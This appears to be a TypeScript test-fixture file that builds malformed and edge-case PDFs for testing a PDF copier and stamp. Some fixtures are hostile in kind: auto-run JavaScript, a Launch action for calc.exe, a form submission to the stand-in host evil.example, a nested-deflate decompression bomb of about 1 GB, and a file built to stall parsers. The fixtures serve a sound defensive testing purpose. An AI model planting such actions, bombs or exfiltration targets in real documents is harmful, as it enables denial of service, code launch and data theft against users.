import { deflateSync } from 'node:zlib'
import { writeRawPdf } from './raw-pdf.ts'

/** PDFs with one odd feature each: the pitfalls that the copier and the stamp must get right. */

const stream = (content: string, entries = ''): string =>
  `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>'
const ONE_PAGE = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>'
const WORDS = 'BT /F1 24 Tf 60 500 Td (Original words) Tj ET'

/** One page: entries of the page, its content, further objects from number 6 on. */
export function makeOnePage(
  options: {
    page?: string
    content?: string
    catalog?: string
    more?: string[]
    box?: string
    trailer?: string
    first?: number
  } = {},
): Buffer {
  return writeRawPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''} >>`,
      ONE_PAGE,
      `<< /Type /Page /Parent 2 0 R /MediaBox [${options.box ?? '0 0 595 842'}] /Resources << /Font << /F1 5 0 R >> >> ` +
        `/Contents 4 0 R ${options.page ?? ''} >>`,
      stream(options.content ?? WORDS),
      FONT,
      ...(options.more ?? []),
    ],
    { ...(options.trailer !== undefined && { trailer: options.trailer }), first: options.first ?? 1 },
  )
}

/** What an unclosed `q` with a tiny matrix, or a `Q` too many, would do to anything drawn after it. */
export const makeUnclosedState = (): Buffer => makeOnePage({ content: `${WORDS} q .2 0 0 .2 300 300 cm q` })
export const makeExtraRestore = (): Buffer => makeOnePage({ content: `${WORDS} Q Q Q .1 0 0 .1 0 0 cm` })

/** A layer that is off: its words must not show. */
export function makeHiddenLayer(): Buffer {
  return makeOnePage({
    catalog: '/OCProperties << /OCGs [6 0 R] /D << /Order [6 0 R] /OFF [6 0 R] >> >>',
    content: `${WORDS} /OC /L1 BDC BT /F1 60 Tf 60 300 Td (SECRET LAYER) Tj ET EMC`,
    page: '/Resources << /Font << /F1 5 0 R >> /Properties << /L1 6 0 R >> >>',
    more: ['<< /Type /OCG /Name (Hidden) >>'],
  })
}

/** Everything is off but what is named: one layer that shows, one that does not, and a group of both that shows with either. */
export function makeLayersOffByDefault(): Buffer {
  const say = (layer: string, words: string, y: number): string =>
    `/OC /${layer} BDC BT /F1 24 Tf 60 ${y} Td (${words}) Tj ET EMC`
  return makeOnePage({
    catalog: '/OCProperties << /OCGs [6 0 R 7 0 R] /D << /BaseState /OFF /ON [6 0 R] /Order [6 0 R 7 0 R] >> >>',
    content: `${WORDS} ${say('L1', 'Shown layer', 400)} ${say('L2', 'Hidden layer', 300)} ${say('L3', 'Either layer', 200)}`,
    page: '/Resources << /Font << /F1 5 0 R >> /Properties << /L1 6 0 R /L2 7 0 R /L3 8 0 R >> >>',
    more: [
      '<< /Type /OCG /Name (Shown) >>',
      '<< /Type /OCG /Name (Hidden) >>',
      '<< /Type /OCMD /OCGs [6 0 R 7 0 R] /P /AnyOn >>',
    ],
  })
}

/** A note with a picture, a marked line, and a link to another page of the file. */
export const makeAnnotated = (): Buffer =>
  makeOnePage({
    page: '/Annots [6 0 R 7 0 R 8 0 R]',
    more: [
      '<< /Type /Annot /Subtype /FreeText /Rect [60 300 300 340] /F 4 /Contents (Margin note) /DA (/Helv 12 Tf) /AP << /N 9 0 R >> >>',
      '<< /Type /Annot /Subtype /Highlight /Rect [60 495 260 525] /F 4 /C [1 1 0] /QuadPoints [60 525 260 525 60 495 260 495] >>',
      '<< /Type /Annot /Subtype /Link /Rect [60 200 300 220] /Dest [3 0 R /Fit] >>',
      stream(
        'BT /F1 12 Tf 4 14 Td (Margin note) Tj ET',
        '/Type /XObject /Subtype /Form /BBox [0 0 240 40] /Resources << /Font << /F1 5 0 R >> >>',
      ),
    ],
  })

/** A text field with a value and no picture of it. */
export function makeFormWithoutAppearance(): Buffer {
  return makeOnePage({
    catalog:
      '/AcroForm << /Fields [6 0 R] /NeedAppearances true /DA (/Helv 12 Tf 0 g) /DR << /Font << /Helv 5 0 R >> >> >>',
    page: '/Annots [6 0 R]',
    more: [
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ada Lovelace) /DA (/Helv 12 Tf 0 g) /Ff 1 /F 4 /Rect [60 600 300 620] /P 3 0 R >>',
    ],
  })
}

/** Everything that runs by itself or on a click. */
export function makeActivePdf(): Buffer {
  return makeOnePage({
    catalog:
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC 6 0 R >> ' +
      '/Names << /JavaScript << /Names [(run) 6 0 R] >> >>',
    page: '/AA << /O 6 0 R >> /Annots [7 0 R 8 0 R 9 0 R 11 0 R]',
    more: [
      '<< /Type /Action /S /JavaScript /JS (app.alert\\(2\\)) >>',
      '<< /Type /Annot /Subtype /Link /Rect [60 400 200 420] /A << /S /Launch /F (calc.exe) >> >>',
      '<< /Type /Annot /Subtype /Link /Rect [60 300 200 320] /A << /S /URI /URI (https://example.org/) >> >>',
      '<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [60 200 200 220] /A 10 0 R >>',
      '<< /S /SubmitForm /F (https://evil.example/) /Next << /S /ImportData /F (data.fdf) >> >>',
      '<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 20 20] /FS << /Type /Filespec /F (a.exe) >> >>',
    ],
  })
}

/** A signed form: the signature is void in a copy, and a stale /ByteRange lies in the file. */
export function makeSignedPdf(): Buffer {
  return makeOnePage({
    catalog: '/AcroForm << /Fields [6 0 R] /SigFlags 3 >> /Perms << /DocMDP 7 0 R >>',
    page: '/Annots [6 0 R]',
    more: [
      '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /V 7 0 R /F 4 /Rect [60 600 300 660] /P 3 0 R /AP << /N 8 0 R >> >>',
      '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 100 200 300] /Contents <00ff00ff> >>',
      stream(
        'BT /F1 12 Tf 4 20 Td (Signed by Grace) Tj ET',
        '/Type /XObject /Subtype /Form /BBox [0 0 240 60] /Resources << /Font << /F1 5 0 R >> >>',
      ),
    ],
  })
}

/** Resources, box and rotation stand on the page tree, not on the page. */
export function makeInheritingPdf(): Buffer {
  return writeRawPdf([
    CATALOG,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [0 0 400 600] /Rotate 90 /Resources << /Font << /F1 5 0 R >> >> >>',
    '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>',
    stream(WORDS.replace('60 500', '60 300')),
    FONT,
  ])
}

/** Content in three streams, cut between the tokens of one operator, one of them deflated. */
export function makeSplitContent(): Buffer {
  const middle = deflateSync(Buffer.from('60 500 Td (Original')).toString('latin1')
  return writeRawPdf([
    CATALOG,
    ONE_PAGE,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents [4 0 R 6 0 R 7 0 R] >>',
    stream('BT /F1 24 Tf'),
    FONT,
    `<< /Filter /FlateDecode /Length ${middle.length} >>\nstream\n${middle}\nendstream`,
    stream(' words) Tj ET'),
  ])
}

/** Two pages that share one content stream but not their resources. */
export function makeSharedContent(): Buffer {
  return writeRawPdf([
    CATALOG,
    '<< /Type /Pages /Count 2 /Kids [3 0 R 6 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    stream(WORDS),
    FONT,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 842] /Resources << /Font << /F1 7 0 R >> >> /Contents 4 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>',
  ])
}

/** A reference to an object that is not there, and one to the page tree of the old file. */
export const makeDanglingPdf = (): Buffer =>
  makeOnePage({
    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Dest [99 0 R /Fit] /Odd 2 0 R >> 98 0 R]',
  })

/** A chain of references, each object pointing to the next. */
export function makeReferenceChain(length: number): Buffer {
  const chain = Array.from({ length }, (_, i) => `<< /Next ${i + 7} 0 R >>`)
  return makeOnePage({
    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Chain 6 0 R >>]',
    more: [...chain, '<< >>'],
  })
}

/** The page tree contains itself. */
export const makePageLoop = (): Buffer => writeRawPdf([CATALOG, '<< /Type /Pages /Count 1 /Kids [2 0 R] >>'])
export const makeNoPages = (): Buffer => writeRawPdf([CATALOG, '<< /Type /Pages /Count 0 /Kids [] >>'])

/** A /Prev that points one byte before `xref`: the parser neither reads it nor searches for the objects. */
export function makeBadPrev(): Buffer {
  const first = makeOnePage().toString('latin1')
  const table = first.lastIndexOf('xref\n0 ')
  const start = first.length
  const update = `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${table - 8} >>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(first + update, 'latin1')
}

/** An object stream with two deflate filters: 2 kB → 1 MB → 1 GB. */
export function makeNestedBomb(): Buffer {
  const inner = deflateSync(Buffer.alloc(64 << 20, 0x20), { level: 9 })
  const outer = deflateSync(inner, { level: 9 }).toString('latin1')
  return writeRawPdf(
    [
      '',
      `<< /Type /ObjStm /N 2 /First 10 /Filter [/FlateDecode /FlateDecode] /Length ${outer.length} >>\nstream\n${outer}\nendstream`,
    ],
    { xrefStream: { root: 3, compressed: [3, 4], container: 2 } },
  )
}

/** A stray `)` where a key is due, as programs leave it behind that forget to escape one in a string. */
export const makeStrayDelimiter = (delimiter: ')' | '{' | '}' = ')'): Buffer =>
  makeOnePage({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [9 9 29 29] /Contents (see (1)) ${delimiter} /NM /Note >>]`,
  })

/** The same inside an object stream, where also the page and its font stand. */
export function makeStrayInObjectStream(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /Odd (a)) /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    FONT,
  ]
  let offset = 0
  const heads = objects.map((object, i) => {
    const head = `${i + 1} ${offset}`
    offset += object.length + 1
    return head
  })
  const first = `${heads.join(' ')}\n`
  const data = deflateSync(Buffer.from(first + objects.join('\n'), 'latin1')).toString('latin1')
  return writeRawPdf(
    ['', '', '', '', stream(WORDS), stream(data, `/Type /ObjStm /N 4 /First ${first.length} /Filter /FlateDecode`)],
    { xrefStream: { root: 1, compressed: [1, 2, 3, 4], container: 6 } },
  )
}

/** The name of a font with a blank in it, not escaped: its second half stands where a key is due. */
export const makeBrokenName = (): Buffer =>
  makeOnePage({
    page: '/Resources << /Font << /F1 6 0 R >> >>',
    more: ['<< /Name /Open Sans /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
  })

/** Words that look like strays, but stand in content: nothing of it may change. */
export const makeContentLikeStrays = (): Buffer =>
  makeOnePage({
    content: `${WORDS} % 9 0 obj << EMC BT ) } >>\nBT /F1 24 Tf 60 300 Td (Second line) Tj ET`,
    page: '/Odd (a)) /Other 9 0 R',
  })

/** A revision behind the end of the file, with no line between, and a cross-reference table that leads nowhere. */
export function makeGluedRevision(): Buffer {
  const first = makeOnePage().toString('latin1').trimEnd()
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Rotate 90 /Contents 4 0 R >>'
  return Buffer.from(`${first}3 0 obj\n${page}\nendobj\nstartxref\n99999\n%%EOF\n`, 'latin1')
}

/** The page stands in an object stream, its newer revision behind it; the table leads nowhere. */
export function makeHiddenRevision(): Buffer {
  const first = makeStrayInObjectStream().toString('latin1').trimEnd()
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Rotate 90 /Contents 5 0 R >>'
  return Buffer.from(`${first}\n3 0 obj\n${page}\nendobj\nstartxref\n99999\n%%EOF\n`, 'latin1')
}

/** Content in two streams with other filters than deflate alone, cut where the matrix of the first counts in the second. */
export function makeOddlyPackedContent(): Buffer {
  const half = deflateSync(Buffer.from('q .5 0 0 .5 0 0 cm BT /F1 24 Tf 60 500 Td (Original')).toString('latin1')
  const hex = `${Buffer.from(' words) Tj ET Q').toString('hex')}>`
  return writeRawPdf([
    CATALOG,
    ONE_PAGE,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents [4 0 R 6 0 R] >>',
    stream(half, '/Filter /FlateDecode /DecodeParms << /Predictor 1 >>'),
    FONT,
    stream(hex, '/Filter [/ASCIIHexDecode]'),
  ])
}

/** Very many words where nobody looks for one. */
export const makeManyWords = (): Buffer => makeOnePage({ page: `/Odd [${'oops '.repeat(60_000)}]` })

/** Recovery reads each object to the end of the file, again and again: busy for minutes. */
export function makeSlowPdf(): Buffer {
  const objects = Array.from({ length: 60_000 }, (_, i) => `${i + 1} 0 obj (never closed`)
  return Buffer.from(`%PDF-1.7\n${objects.join('\n')}\n%%EOF\n`, 'latin1')
}

/** Two pages, but the tree declares three. */
export const makeMissingPage = (): Buffer =>
  writeRawPdf([
    CATALOG,
    '<< /Type /Pages /Count 3 /Kids [3 0 R 9 0 R 6 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    stream(WORDS),
    FONT,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
  ])

/** Branches and pages that do not say what they are; the list of the second branch is an object of its own. */
export const makeUntypedTree = (): Buffer =>
  writeRawPdf([
    CATALOG,
    '<< /Count 3 /Kids [3 0 R 6 0 R] /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> >>',
    '<< /Contents 4 0 R >>',
    stream(WORDS),
    FONT,
    '<< /Count 2 /Kids 7 0 R /Rotate 90 >>',
    '[8 0 R << /Contents 4 0 R >>]',
    '<< /Type /Page /Contents 4 0 R /Rotate 0 >>',
  ])

/** Fields of every kind without a picture; the form gives the font. */
export function makeFieldsWithoutAppearance(): Buffer {
  const common = '/Type /Annot /Subtype /Widget /F 4 /P 3 0 R /DA (/Helv 12 Tf 0 g)'
  const fields = [
    `<< ${common} /FT /Tx /T (line) /V (Single line) /Q 2 /Rect [60 700 300 720] >>`,
    `<< ${common} /FT /Tx /T (text) /Ff 4096 /V (First words of a text that is longer than one line\\nand goes on) /Rect [60 600 200 680] >>`,
    `<< ${common} /FT /Tx /T (comb) /Ff 16777216 /MaxLen 8 /V (12345678) /Rect [60 560 300 580] >>`,
    `<< ${common} /FT /Ch /T (combo) /Ff 131072 /Opt [[(de) (Germany)] [(fr) (France)]] /V (fr) /Rect [60 520 300 540] >>`,
    `<< ${common} /FT /Ch /T (list) /Opt [(Alpha) (Beta) (Gamma)] /V (Beta) /Rect [60 440 300 500] >>`,
    `<< ${common} /FT /Btn /T (push) /Ff 65536 /MK << /CA (Press) /BG [0.8] /BC [0 0 0] >> /Rect [60 400 160 420] >>`,
    `<< ${common} /FT /Btn /T (check) /V /Yes /AS /Yes /MK << /BC [1 0 0] >> /Rect [60 360 80 380] >>`,
    `<< ${common} /FT /Btn /T (unchecked) /V /Off /AS /Off /Rect [100 360 120 380] >>`,
    `<< ${common} /FT /Tx /T (turned) /V (Turned) /MK << /R 90 >> /Rect [400 600 420 720] >>`,
    `<< ${common} /FT /Tx /T (secret) /Ff 8192 /V (hunter) /Rect [60 320 300 340] >>`,
    `<< /Type /Annot /Subtype /Widget /F 4 /P 3 0 R /Parent 17 0 R /Rect [60 280 300 300] >>`,
    `<< /FT /Tx /T (parent) /V (Inherited value) /DA (/None 0 Tf 1 0 0 rg) /Kids [16 0 R] >>`,
  ]
  const numbers = fields.map((_, i) => `${i + 6} 0 R`)
  return makeOnePage({
    catalog: `/AcroForm << /NeedAppearances true /Fields [${numbers.join(' ')}] /DR << /Font << /Helv 5 0 R >> >> >>`,
    page: `/Annots [${numbers.slice(0, 11).join(' ')}]`,
    more: fields,
  })
}

/** A field whose value no font of the form can set; UTF-16, as the standard wants it. */
export function makeForeignField(value: string): Buffer {
  const hex = Buffer.from(`\ufeff${value}`, 'utf16le').swap16().toString('hex')
  return makeOnePage({
    catalog: '/AcroForm << /NeedAppearances true /Fields [6 0 R] /DR << /Font << /Helv 5 0 R >> >> >>',
    page: '/Annots [6 0 R]',
    more: [
      `<< /Type /Annot /Subtype /Widget /F 4 /FT /Tx /T (name) /V <${hex}> /DA (/Helv 14 Tf 0 g) /Rect [60 700 400 724] >>`,
    ],
  })
}

/** A film with a poster, and a sound that shows nothing. */
export const makePlayers = (): Buffer =>
  makeOnePage({
    page: '/Annots [6 0 R 7 0 R]',
    more: [
      '<< /Type /Annot /Subtype /RichMedia /Rect [60 300 300 400] /F 4 /RichMediaContent << /Assets 9 0 R >> /AP << /N 8 0 R >> >>',
      '<< /Type /Annot /Subtype /Sound /Rect [60 200 80 220] /F 4 /Sound 9 0 R >>',
      stream(
        'BT /F1 20 Tf 10 40 Td (Poster of the film) Tj ET',
        '/Type /XObject /Subtype /Form /BBox [0 0 240 100] /Resources << /Font << /F1 5 0 R >> >>',
      ),
      stream('soundsoundsound'),
    ],
  })

/** Turned, cropped, and in units of two points: the stamp must still stand upright at the visible bottom edge. */
export const makeTurnedPage = (rotate: number): Buffer =>
  makeOnePage({ page: `/Rotate ${rotate} /CropBox [50 100 500 700]`, content: WORDS.replace('60 500', '120 400') })
export const makeUserUnitPage = (): Buffer =>
  makeOnePage({ box: '0 0 298 421', page: '/UserUnit 2', content: WORDS.replace('60 500', '30 200') })

/**
 * A page beside a branch that the tree names twice, as programs leave it that take pages out of a file.
 * @param kids Pages of that branch, which says that it has none.
 */
export function makeEmptyBranches(kids = ''): Buffer {
  const pdf = makeOnePage({ more: [`<< /Type /Pages /Count 0 /Kids [${kids}] /Parent 2 0 R >>`] }).toString('latin1')
  return Buffer.from(pdf.replace('/Kids [3 0 R]', '/Kids [3 0 R 6 0 R 6 0 R]'), 'latin1')
}

/** 6,000 lines of text in LZW, cut into so many streams, with other operators before them. */
export function makeLzwContent(streams: number, before = ''): Buffer {
  const lines = Array.from(
    { length: 6000 },
    (_, i) => `BT /F1 6 Tf ${20 + 180 * (i % 3)} ${830 - 0.13 * i} Td (Line ${i + 1} of words) Tj ET\n`,
  )
  const most = Math.ceil(lines.length / streams)
  const parts = Array.from({ length: streams }, (_, i) => {
    const data = encodeLzw(
      Buffer.from((i === 0 ? before : '') + lines.slice(i * most, (i + 1) * most).join(''), 'latin1'),
    )
    return `<< /Filter /LZWDecode /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`
  })
  const references = parts.map((_, i) => `${6 + i} 0 R`).join(' ')
  const pdf = makeOnePage({ more: parts }).toString('latin1').replace('/Contents 4 0 R', `/Contents [${references}]`)
  return Buffer.from(pdf, 'latin1')
}

/** As encoders do it: a code of its own for each run of bytes that was met before (ISO 32000-2 section 7.4.4). */
function encodeLzw(bytes: Buffer): Buffer {
  const written: number[] = []
  let held = 0
  let bits = 0
  const put = (code: number, width: number): void => {
    held = (held << width) | code
    for (bits += width; bits >= 8; bits -= 8) written.push((held >>> (bits - 8)) & 255)
    held &= (1 << bits) - 1
  }
  let codes = new Map<string, number>()
  let next = 258
  const measure = (): number => (next >= 2048 ? 12 : next >= 1024 ? 11 : next >= 512 ? 10 : 9)
  const find = (run: string): number => (run.length === 1 ? run.charCodeAt(0) : codes.get(run)!)
  put(256, 9)
  let run = ''
  for (const byte of bytes) {
    const longer = run + String.fromCharCode(byte)
    if (longer.length === 1 || codes.has(longer)) {
      run = longer
      continue
    }
    put(find(run), measure())
    codes.set(longer, next)
    next += 1
    if (next === 4095) {
      put(256, 12)
      codes = new Map()
      next = 258
    }
    run = String.fromCharCode(byte)
  }
  if (run !== '') put(find(run), measure())
  put(257, measure())
  put(0, 7)
  return Buffer.from(written)
}
